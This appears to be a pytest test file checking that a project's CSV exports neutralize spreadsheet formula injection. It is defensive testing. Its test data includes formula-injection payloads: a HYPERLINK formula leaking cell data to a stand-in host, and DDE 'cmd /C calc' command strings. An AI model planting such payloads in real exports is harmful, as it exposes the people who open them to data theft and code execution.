"""Spreadsheet formula injection (issue 26, part 5): every CSV Equipoise writes goes through core/_csv.py, whose
rule prefixes ``'`` to text cells starting with = + - @ tab or CR, and leaves numbers (and text that is exactly
a plain number) as data. Each export is tested: the instructor's training-cases CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from core._csv import csv_text, safe_cell

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK),
    (CALC, "'" + CALC),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-3.5+cmd|' /C calc'!A0", "'-3.5+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("ann", "ann"),
    ("a=b", "a=b"),            # only the first character matters
    ("", ""),
    # numbers are data: the numeric value, and text that is exactly a plain number
    (-3.5, -3.5),
    (-7, -7),
    (0.25, 0.25),
    (True, True),
    (None, None),
    ("-3.5", "-3.5"),
    ("+2", "+2"),
    ("-1e-3", "-1e-3"),
    ("-.5", "-.5"),
])
def test_the_rule_neutralizes_text_that_a_spreadsheet_would_run(value, expected):
    assert safe_cell(value) == expected


def test_csv_text_neutralizes_every_cell_and_keeps_negative_numbers():
    text = csv_text([{"trainee": CALC, "change": -3.5, "note": "-3.5"}, {"trainee": "bo", "change": 2}],
                    ["trainee", "change", "note"])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["trainee", "change", "note"], ["'" + CALC, "-3.5", "-3.5"], ["bo", "2", ""]]


def test_no_module_writes_csv_except_through_the_helper():
    """A CSV writer anywhere else would bypass the rule: core/_csv.py is the only one."""
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|write_csv\(")
    offenders = [str(p.relative_to(ROOT)) for d in ("core", "pages") for p in (ROOT / d).rglob("*.py")
                 if pattern.search(p.read_text(encoding="utf-8")) and p != ROOT / "core" / "_csv.py"]
    offenders += [p.name for p in [ROOT / "app.py"] if pattern.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_the_training_cases_export_neutralizes_trainee_names(tmp_path, monkeypatch, bundles):
    from core import service

    monkeypatch.setenv("EQUIPOISE_DATA_DIR", str(tmp_path / "data"))
    url = f"sqlite:///{tmp_path / 'store.sqlite3'}"
    warfarin = bundles("warfarin")
    s = service.new_training_session("warfarin", url=url, bundle=warfarin, cases=2, manipulated_share=0.5, seed=7)
    for name in (HYPERLINK, CALC):
        service.consent_to_training(s.id, name, url=url)
        for case in (1, 2):
            service.commit_initial_answer(s.id, name, case, value=30.0, confidence=60, url=url)
            service.release_advice(s.id, name, case, url=url)
            service.commit_final_answer(s.id, name, case, value=35.5, url=url)
    rows = list(csv.DictReader(io.StringIO(service.training_cases_csv(s.id, url=url))))
    assert sorted({r["trainee"] for r in rows}) == sorted(["'" + HYPERLINK, "'" + CALC])
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows for v in r.values())
    assert {r["initial"] for r in rows} == {"30.0"} and {r["final"] for r in rows} == {"35.5"}  # numbers untouched
